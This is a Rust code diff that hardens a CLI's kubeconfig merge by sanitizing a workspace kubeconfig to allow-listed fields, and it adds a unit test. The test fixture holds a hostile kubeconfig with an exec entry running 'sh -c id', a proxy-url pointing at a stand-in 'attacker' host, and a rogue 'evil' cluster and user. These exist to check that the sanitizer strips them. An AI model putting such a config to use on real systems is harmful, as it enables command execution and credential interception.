@@ -6,7 +6,7 @@ use anyhow::Context as _;
 
 use crate::cli::{KubeconfigArgs, OutputFormat};
 use crate::exit::ExitStatus;
-use crate::k3s::kubeconfig::merge_kubeconfig_text;
+use crate::k3s::kubeconfig::{merge_kubeconfig_text, sanitize_kubeconfig};
 
 use super::{Context, UserError};
 
@@ -81,6 +81,7 @@ fn default_target() -> anyhow::Result<PathBuf> {
 
 /// Merge the workspace kubeconfig (one cluster/user/context named `context`) into `target`: entries named
 /// `context` are replaced, every other entry is kept, `current-context` is set only when `target` has none.
+/// Only the allow-listed fields of the workspace kubeconfig are merged (no `exec`, proxies, extra users).
 /// Written atomically with mode 0600; a missing `target` is created.
 pub fn merge_kubeconfig(
     workspace_kubeconfig: &Path,
@@ -99,6 +100,12 @@ pub fn merge_kubeconfig(
             workspace_kubeconfig.display()
         );
     }
+    // Only the allow-listed fields reach the user's kubeconfig, whoever wrote the workspace file.
+    let source = sanitize_kubeconfig(
+        &source,
+        context,
+        &workspace_kubeconfig.display().to_string(),
+    )?;
     let existing = match std::fs::read_to_string(target) {
         Ok(text) => text,
         Err(error) if error.kind() == std::io::ErrorKind::NotFound => String::new(),
@@ -114,4 +121,41 @@ pub fn merge_kubeconfig(
     }
     crate::files::write_atomic(target, merged.as_bytes(), 0o600)?;
     Ok(())
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn merge_drops_exec_and_extra_entries_of_the_workspace_kubeconfig() {
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().join("kubeconfig");
+        // As an older provision wrote it: the guest's k3s.yaml copied whole.
+        std::fs::write(
+            &workspace,
+            "apiVersion: v1\nkind: Config\nclusters:\n- name: lab\n  cluster:\n    server: https://10.0.0.5:6443\n    certificate-authority-data: Q0E=\n    proxy-url: http://attacker:3128\n- name: evil\n  cluster: {server: 'https://attacker:6443'}\nusers:\n- name: lab\n  user:\n    token: abc\n    exec: {command: sh, args: [-c, id]}\n- name: evil\n  user: {token: x}\ncontexts:\n- name: lab\n  context: {cluster: lab, user: lab}\n- name: evil\n  context: {cluster: evil, user: evil}\ncurrent-context: lab\n",
+        )
+        .unwrap();
+        let target = dir.path().join("kube/config");
+        merge_kubeconfig(&workspace, &target, "lab").unwrap();
+        let merged = std::fs::read_to_string(&target).unwrap();
+        for forbidden in ["exec", "proxy-url", "attacker", "evil"] {
+            assert!(!merged.contains(forbidden), "{forbidden}:\n{merged}");
+        }
+        assert!(merged.contains("https://10.0.0.5:6443"));
+        assert!(merged.contains("token: abc"));
+        std::fs::write(&workspace, "name: lab\nusers: [").unwrap();
+        let error = merge_kubeconfig(&workspace, &target, "lab").unwrap_err();
+        assert!(
+            format!("{error:#}").contains("not a kubeconfig"),
+            "{error:#}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(&target).unwrap(),
+            merged,
+            "target untouched"
+        );
+    }
 }
